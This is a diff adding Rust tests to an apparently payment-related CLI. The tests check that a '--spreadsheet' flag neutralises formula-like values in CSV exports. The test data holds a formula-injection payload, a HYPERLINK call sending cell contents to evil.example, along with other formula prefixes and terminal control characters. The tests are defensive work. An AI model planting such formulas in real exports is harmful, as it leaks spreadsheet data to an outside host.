@@ -203,6 +203,72 @@ fn f50_nothing_that_comes_in_data_moves_the_cursor() {
     assert_eq!(&record[6], evil);
 }
 
+/// CSV is exact for programs, and harmless in a spreadsheet where that is asked for.
+#[test]
+fn a_formula_in_a_name_is_text_in_a_spreadsheet() {
+    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
+    let escaped = serde_json::to_string(evil).unwrap();
+    let body = format!(
+        r#"[{{"store_id":"1","checkout_id":"1","operation_id":"@SUM(1)","tx_hash":"x;=1","brl_requested":"-25.00","usdt_credited":"5.00000","external_data":{escaped},"request_datetime":"1778745600.1","credit_datetime":"1778745601.1"}}]"#
+    );
+    let url = server(move |_, _| (200, body.clone()));
+    let list = [&["charges", "confirmed"], &DAY[..]].concat();
+    let row = |more: &[&str]| {
+        let csv = output(&url, &[&list, more].concat(), "csv");
+        csv::Reader::from_reader(csv.as_bytes()).records().next().unwrap().unwrap()
+    };
+    let exact = ["1", "1", "@SUM(1)", "x;=1", "-25.00", "5.00000", evil];
+    assert_eq!(row(&[]).iter().take(7).collect::<Vec<_>>(), exact);
+    let harmless = format!("'{evil}");
+    let harmless = ["1", "1", "'@SUM(1)", "x;'=1", "-25.00", "5.00000", &harmless];
+    let with = row(&["--spreadsheet"]);
+    assert_eq!(with.iter().take(7).collect::<Vec<_>>(), harmless);
+    assert_eq!(
+        with.iter().skip(7).collect::<Vec<_>>(),
+        row(&[]).iter().skip(7).collect::<Vec<_>>()
+    );
+}
+
+/// One thing is as harmless as a list.
+#[test]
+fn a_formula_in_one_thing_is_text_in_a_spreadsheet() {
+    let get = ["settlements", "get", "12345"];
+    let mut settlement: Value =
+        serde_json::from_str(&output(documented().base_url(), &get, "json")).unwrap();
+    settlement["settlement_message"] = "\u{feff}=1+1".into();
+    settlement["charges"][0]["external_id"] = "+x".into();
+    let body = settlement.to_string();
+    let url = server(move |_, _| (200, body.clone()));
+    let csv = |more: &[&str]| output(&url, &[&get, more].concat(), "csv");
+    let harmless = csv(&["--spreadsheet"]);
+    assert!(harmless.contains(",'\u{feff}=1+1,") && harmless.contains(",'+x,"), "{harmless}");
+    assert!(!csv(&[]).contains('\''));
+}
+
+/// Where nothing looks like a formula, the flag changes nothing, for any command.
+#[test]
+fn the_flag_for_spreadsheets_keeps_the_data() {
+    let server = with_payments();
+    let things: [&[&str]; 6] = [
+        &["lots", "get", "9c030c8b-6d68-445b-8048-1bacd91012fa"],
+        &in_may(&["lots", "find-payout", "txc_test_lot1_charge_002"]),
+        &["settlements", "get", "12345"],
+        &["settlements", "pending", "--totals"],
+        &["pay", "status", "--external-id", "done"],
+        &["pay", "status", "--external-id", "done", "--watch"],
+    ];
+    let things = things.iter().map(|args| args.to_vec());
+    for args in lists().into_iter().chain(things) {
+        let csv = output(server.base_url(), &args, "csv");
+        let with = output(server.base_url(), &[&args[..], &["--spreadsheet"]].concat(), "csv");
+        let records = |csv: &str| {
+            let mut csv = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+            csv.records().map(Result::unwrap).collect::<Vec<_>>()
+        };
+        assert_eq!(records(&with), records(&csv), "{args:?}");
+    }
+}
+
 #[test]
 fn f50_an_error_does_not_move_the_cursor_either() {
     let wrong = run(&mut with_token("http://127.0.0.1:1", &["lots", "get", "\u{1b}[2J\u{202e}x"]));
